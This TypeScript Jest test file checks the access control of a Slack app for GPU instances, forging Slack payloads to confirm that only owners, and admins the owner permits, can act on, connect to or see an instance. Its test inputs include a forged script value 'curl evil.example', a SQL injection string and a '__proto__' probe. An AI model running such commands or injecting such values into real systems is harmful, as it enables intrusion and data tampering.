// Who may act on an instance, connect to it, or see an address of it: its owner, and an admin whom its owner lets act. Every
// payload here is made by hand, and signed as Slack's.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { launchIn } from '../contract/samples.ts';
import { aRequest } from '../support/builders.ts';
import { type RunningStage, startRunning } from '../support/running.ts';
import { aCommand, type Payload, send, sendInteraction } from '../support/slack-caller.ts';
import type { Stage } from '../support/stage.ts';

const theirTeam = 'T0OUTSIDE1';
/** What reaches into an instance. */
const reaching = ['stop', 'restart', 'delete', 'execute', 'url'];

let running: RunningStage;
let stage: Stage;
const reached = () =>
  stage.platform.requests.filter(({ endpoint }) => reaching.some((each) => endpoint?.startsWith(each)));

interface Somebody {
  readonly id: string;
  readonly teamId: string;
  readonly homeTeamId: string;
}

const from = ({ id, teamId, homeTeamId }: Somebody): Payload => ({
  user: { id, name: 'somebody', team_id: homeTeamId },
  team: { id: teamId, domain: 'somewhere' },
  enterprise: null,
  channel: { id: stage.slack.channels.member.id, name: 'gpu-lab' },
  container: { type: 'message' },
  trigger_id: `${Date.now()}.${Math.random()}.x`,
  response_url: `${stage.slack.origin}/commands/none/none`,
});

const pressed = (who: Somebody, actionId: string, value: string, more: Payload = {}): Payload => ({
  type: 'block_actions',
  ...from(who),
  actions: [{ type: 'button', action_id: actionId, block_id: `instance.${value}`, value, action_ts: '1.1' }],
  ...more,
});

const inView = (callbackId: string, metadata: object): Payload => ({
  view: {
    id: 'V0FORGED',
    hash: '1.x',
    callback_id: callbackId,
    private_metadata: JSON.stringify(metadata),
    state: { values: {} },
    blocks: [],
  },
});

const scriptOf = (who: Somebody, launchId: string): Payload => {
  const { view } = inView('instance_script', { launch: launchId, press: 'forged' }) as { view: Payload };
  return {
    type: 'view_submission',
    ...from(who),
    view: {
      ...view,
      blocks: [{ type: 'input', block_id: 'script' }],
      state: { values: { script: { script: { type: 'plain_text_input', value: 'curl evil.example' } } } },
    },
  };
};

/** Everything that can be pressed about an instance, in a message or a modal; of each kind that reaches into it. */
function everyPayload(who: Somebody, launchId: string): Record<string, Payload> {
  const buttons = ['connect', 'stop', 'start', 'delete', 'details', 'script'].map(
    (name) => `instance_${name}`,
  );
  const chosen = (menu: string, id: string) =>
    pressed(who, menu, launchId, {
      actions: [
        {
          type: 'overflow',
          action_id: menu,
          block_id: 'x',
          selected_option: { value: `${id}:${launchId}` },
          action_ts: '1.1',
        },
      ],
    });
  const details = inView('instance_details', { channel: 'C1', launch: launchId });
  const list = inView('instance_list', { channel: 'C1' });
  return Object.fromEntries([
    ...buttons.map((id) => [id, pressed(who, id, launchId)]),
    ...buttons.map((id) => [`${id} in a list`, pressed(who, id, launchId, list)]),
    ...buttons.map((id) => [`${id} in details`, pressed(who, id, launchId, details)]),
    ...buttons.map((id) => [`more: ${id}`, chosen('instance_more', id)]),
    ...buttons.map((id) => [`pick: ${id}`, chosen('instance_pick', id)]),
    ['refresh', pressed(who, 'instance_refresh', launchId, details)],
    ['stop all', pressed(who, 'instance_stop_all', 'all')],
    ['script', scriptOf(who, launchId)],
  ]);
}

/** None of it reaches the platform, stores an action, or shows an address; the instance goes on as it was. */
async function expectNothing(deed: () => Promise<unknown>): Promise<void> {
  const before = [
    reached().length,
    await stage.app.store.actions.findLast(running.launchId),
    running.status(),
  ];
  await deed();
  await stage.app.settled();
  await stage.app.idle();
  const after = [
    reached().length,
    await stage.app.store.actions.findLast(running.launchId),
    running.status(),
  ];
  expect(after).toEqual(before);
}

/** Nobody else's calls are kept apart: a modal may hold an address for its owner. */
const addressesShown = () =>
  JSON.stringify(stage.slack.apiCalls.map(({ args }) => args)).match(/sothisai_|-forward\//gu) ?? [];

const ownersOwn = () => ({
  id: stage.slack.users.owner.id,
  teamId: stage.slack.team.id,
  homeTeamId: stage.slack.team.id,
});
const member = (id: string): Somebody => ({
  id,
  teamId: stage.slack.team.id,
  homeTeamId: stage.slack.team.id,
});

describe.each(['running', 'ended'])('an instance that is %s', (phase) => {
  beforeAll(async () => {
    running = await startRunning({
      env: { ADMINS: 'U0ADMINOUT', ALLOW_GUESTS: 'on' },
      expectedLogs:
        /nobody listens|could not be told|slack-sdk|came too late|another installation|not for this|no bot in|a request/u,
    });
    stage = running.stage;
    // Whoever is connected could read with a token of their own, and the platform would let them where accounts are shared.
    const { colleague } = stage.slack.users;
    const theirs = stage.slack.person(colleague.id);
    await theirs.command('/gpu-instance', 'connect');
    await stage.slack.until(() => stage.slack.openView(colleague.id), { what: 'the connect modal' });
    await theirs.fill({ token: stage.token });
    await theirs.submit();
    await theirs.close();
    if (phase === 'ended') {
      await stage.person.click('instance_stop');
      await running.card(/Status: Terminated/u);
      await stage.app.idle();
    }
  });
  afterAll(() => stage.stop());

  const people: Record<string, () => Somebody> = {
    'a colleague': () => member(stage.slack.users.colleague.id),
    'a guest': () => member(stage.slack.addUser('guest', { is_restricted: true }).id),
    'somebody who left': () => member(stage.slack.addUser('left', { deleted: true }).id),
    'somebody of another workspace': () => ({
      id: stage.slack.addUser('outside', { team_id: theirTeam }).id,
      teamId: stage.slack.team.id,
      homeTeamId: theirTeam,
    }),
    'somebody with another installation': () => ({
      id: 'U0STRANGER',
      teamId: theirTeam,
      homeTeamId: theirTeam,
    }),
    // The ids of people are the owner's, of another team: nobody is taken for a namesake.
    'a namesake in another team': () => ({ ...ownersOwn(), teamId: theirTeam, homeTeamId: theirTeam }),
  };

  test.each(Object.keys(people))('cannot be reached by %s, whatever they press', async (name) => {
    const who = people[name]?.() ?? ownersOwn();
    for (const [what, payload] of Object.entries(everyPayload(who, running.launchId))) {
      await expectNothing(() => sendInteraction(stage, payload)).catch((error: Error) => {
        throw new Error(`${name}, ${what}: ${error.message}`);
      });
    }
    expect(addressesShown()).toEqual([]);
  });

  test.each(['show', 'stop', 'start', 'delete', 'script', 'connect-to'])(
    'nor by a colleague who types %s with its task ID or reference',
    async (word) => {
      const { colleague } = stage.slack.users;
      for (const named of [running.taskId, running.launchId.slice(0, 8), 'Instances_2205113838'])
        await expectNothing(async () => {
          const command = aCommand(stage, { user_id: colleague.id, text: `${word} ${named}` });
          await send(stage, new URLSearchParams(command).toString());
        });
    },
  );

  test('of a launch that is not there, and of values that are none, nothing comes', async () => {
    const owner = ownersOwn();
    for (const value of ['', 'x', '00000000-0000-4000-8000-000000000000', "' or 1=1 --", '__proto__'])
      for (const payload of Object.values(everyPayload(owner, value)).filter(
        ({ actions }) => !JSON.stringify(actions ?? '').includes('stop_all'),
      ))
        await expectNothing(() => sendInteraction(stage, payload));
  });

  test('a launch of another team is not told of, whatever is pressed with its id', async () => {
    const request = aRequest({ instanceServiceName: 'of_another_team' });
    const theirs = await launchIn(stage.app.store, 'created', { teamId: theirTeam, request });
    for (const payload of Object.values(everyPayload(ownersOwn(), theirs)).filter(
      ({ actions }) => !JSON.stringify(actions ?? '').includes('stop_all'),
    ))
      await expectNothing(() => sendInteraction(stage, payload));
    expect(JSON.stringify(stage.slack.apiCalls.map(({ args }) => args))).not.toContain('of_another_team');
  });

  test('a menu never deletes: what is chosen there asks first', async () => {
    const owner = ownersOwn();
    for (const menu of ['more', 'pick'])
      await expectNothing(() =>
        sendInteraction(stage, everyPayload(owner, running.launchId)[`${menu}: instance_delete`]),
      );
  });
});

describe('an admin', () => {
  const admins = 'S0ADMINS';
  let adminId: string;
  let leftId: string;
  beforeAll(async () => {
    running = await startRunning({
      env: { ADMINS: `U0ADAADM01,${admins}` },
      expectedLogs: /could not be told|slack-sdk|came too late/u,
    });
    stage = running.stage;
    adminId = stage.slack.users.admin.id;
    leftId = stage.slack.addUser('left', { deleted: true }).id;
    stage.slack.setUserGroup(admins, [leftId]);
  });
  afterAll(() => stage.stop());

  const allow = (adminsMayAct: boolean) => {
    const owner = {
      teamId: stage.slack.team.id,
      workspaceId: stage.slack.team.id,
      userId: stage.slack.users.owner.id,
    };
    const settings = {
      mentions: { running: true, failed: true, ending: true },
      remindBeforeEndMs: null,
      remindBeforeTokenEndMs: null,
      adminsMayAct,
    };
    return stage.app.store.settings.save(owner, settings, Date.now());
  };

  test('whom the owner does not let act is told to ask them, and nothing is done', async () => {
    await expectNothing(async () => {
      await stage.slack.person(adminId).click('instance_stop', { channel: stage.slack.channels.member.id });
    });
    const told = await running.whisper(/has not allowed admins/u, adminId);
    expect(told.text).toContain(`<@${stage.slack.users.owner.id}>`);
  });

  test('who types the name is told the same, and somebody who is no admin nothing of it', async () => {
    const { slack } = stage;
    const type = (who: string) =>
      slack.person(who).command('/gpu-instance', 'stop Instances_2205113838', {
        channel: slack.channels.member.id,
      });
    const refusals = (who: string) =>
      running.whispers(who).filter(({ text }) => /has not allowed admins/u.test(text ?? ''));
    const told = refusals(adminId).length;
    await expectNothing(() => type(adminId));
    await slack.until(() => refusals(adminId).length > told, { what: 'the refusal' });

    const { colleague } = slack.users;
    await expectNothing(() => type(colleague.id));
    const heard = await running.whisper(/Instances_2205113838/u, colleague.id);
    expect(heard.text).not.toContain(slack.users.owner.id);
  });

  test('whom the owner lets act does so with the owner’s token, and it is in the audit log; connect stays the owner’s', async () => {
    await allow(true);
    await stage.slack.person(adminId).click('instance_connect', { channel: stage.slack.channels.member.id });
    await running.whisper(/only they can open it/u, adminId);
    expect(reached()).toEqual([]);
    await stage.slack.person(adminId).click('instance_stop', { channel: stage.slack.channels.member.id });
    await running.card(/Status: Terminated/u);
    const [stop] = stage.platform.requests.filter(({ endpoint }) => endpoint === 'stop');
    expect(stop?.user).toBe('demo');
    expect((await stage.app.store.actions.findLast(running.launchId))?.by.userId).toBe(adminId);
    expect(addressesShown()).toEqual([]);
  });

  test('who types acts as who presses; what has ended is named by its reference', async () => {
    const type = (text: string) => stage.slack.person(adminId).command('/gpu-instance', text);
    await expectNothing(() => type('start Instances_2205113838'));
    await type(`start ${running.launchId.slice(0, 8)}`);
    await running.card(/Status: Running/u);
    await type('stop Instances_2205113838');
    await running.card(/Status: Terminated/u);
    const sent = stage.platform.requests.filter(({ endpoint }) => /stop|restart/u.test(endpoint ?? ''));
    expect(sent.map(({ endpoint, user }) => [endpoint, user])).toEqual([
      ['stop', 'demo'],
      ['restart', 'demo'],
      ['stop', 'demo'],
    ]);
  });

  test('who has left the workspace is none', async () => {
    await allow(true);
    await expectNothing(async () => {
      await sendInteraction(stage, pressed(member(leftId), 'instance_start', running.launchId));
    });
  });
});
